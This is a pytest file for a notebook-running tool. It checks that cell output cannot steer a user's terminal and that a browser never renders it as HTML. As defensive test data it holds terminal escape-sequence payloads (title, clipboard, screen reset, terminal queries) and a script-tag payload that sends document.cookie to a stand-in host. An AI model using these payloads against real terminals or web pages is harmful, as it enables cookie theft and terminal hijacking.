"""What a cell shows steers neither the terminal of whoever runs it nor a browser."""

import os
import pty
import re
import select
import subprocess
import time
from pathlib import Path
from typing import Any

import nbformat
import pytest
from runt_command import EXECUTABLE

from runt_worker import Error
from runt_worker.testing import SharedWorker

DEADLINE_S = 120.0

COLOUR = re.compile(rb"\x1b\[[0-9;:]*m")
CONTROL = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f]|\xc2[\x80-\x9f]")

SEQUENCES = {
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;b3duZWQ=\x1b\\",
    "link": "\x1b]8;;http://owned/\x1b\\text\x1b]8;;\x1b\\",
    "question that the terminal types": "\x1b[6n\x1b[c\x1b]10;?\x07",
    "clear": "\x1b[2J\x1b[H\x1b[3J",
    "upwards": "\x1b[99A\x1b[K",
    "other screen": "\x1b[?1049h",
    "deaf keyboard": "\x1b[?25l\x1b[2h",
    "device string": "\x1bP+q544e\x1b\\",
    "one character": "\x9b2J\x9d0;owned\x9c",
    "reset": "\x1bc",
    "file of iTerm": "\x1b]1337;File=name=b3duZWQ=:b3duZWQ=\x07",
}

NEVER_ENDED = "\x1b]0;owned"
"""What follows it in the same stream is taken for a part of it."""

CELL = """
import sys
from IPython.display import display, Markdown
from getpass import getpass
bad = {bad!r}
class Shown:
    def __repr__(self): return bad
print(bad); print(bad, file=sys.stderr)
for piece in bad: print(piece, end="", flush=True)
display(Shown()); display(Markdown(bad))
display({{"text/plain": bad, bad: bad}}, raw=True)
import warnings; warnings.warn(bad)
print("end of", "it")
raise type(f"Error{{bad}}", (Exception,), {{}})(bad)
"""

HTML = "<script>fetch('http://owned/' + document.cookie)</script>"


def run_at_a_terminal(*arguments: str) -> bytes:
    """Run a command at a terminal of ours and return all that it wrote there."""
    ours, its = pty.openpty()
    written = b""
    with subprocess.Popen(
        [EXECUTABLE, *arguments], stdin=its, stdout=its, stderr=its
    ) as process:
        os.close(its)
        deadline = time.monotonic() + DEADLINE_S
        while time.monotonic() < deadline:
            if not select.select([ours], [], [], 1)[0]:
                continue
            try:
                written += os.read(ours, 1 << 16)
            except OSError:  # the other side has been closed
                break
        process.kill()
    os.close(ours)
    return written


def harm(written: bytes) -> list[bytes]:
    """Return what of it a terminal would take for a command."""
    rest = COLOUR.sub(b"", written)
    return [*re.findall(rb"\x1b.{0,20}", rest), *CONTROL.findall(rest)]


def test_nothing_that_cells_show_steers_the_terminal() -> None:
    """All sequences in one session: each of them by each way out."""
    code = "".join(SEQUENCES.values())
    written = run_at_a_terminal("exec", CELL.format(bad=code))
    assert b"end of it" in written
    assert b"Error" in written
    assert harm(written) == []


@pytest.mark.parametrize("bad", ["".join(SEQUENCES.values()), NEVER_ENDED])
def test_the_same_in_a_pipe(bad: str) -> None:
    done = subprocess.run(
        [EXECUTABLE, "exec", CELL.format(bad=bad)],
        capture_output=True,
        timeout=DEADLINE_S,
        check=False,
    )
    assert b"Error" in done.stderr
    assert harm(done.stdout + done.stderr) == []


def test_html_in_an_exception_is_text(sandbox: SharedWorker) -> None:
    code = f"""
class Attack(Exception):
    def _render_traceback_(self): return [{HTML!r}]
    def _repr_html_(self): return {HTML!r}
raise Attack({HTML!r})
"""
    ran = sandbox.run(code)
    [error] = ran.outputs
    assert isinstance(error, Error), "it is no display, which a page would show"
    assert error.evalue == HTML


def test_and_text_in_a_saved_notebook(tmp_path: Path) -> None:
    script, result = tmp_path / "attack.py", tmp_path / "result.ipynb"
    script.write_text(f"raise ValueError({HTML!r})")
    done = subprocess.run(
        [EXECUTABLE, "run", script, "-o", result],
        capture_output=True,
        timeout=DEADLINE_S,
        check=False,
    )
    assert done.returncode == 1
    untyped: Any = nbformat
    [cell] = untyped.read(result, as_version=4).cells
    [output] = cell.outputs
    assert output.output_type == "error"
    assert output.evalue == HTML
    assert "data" not in output
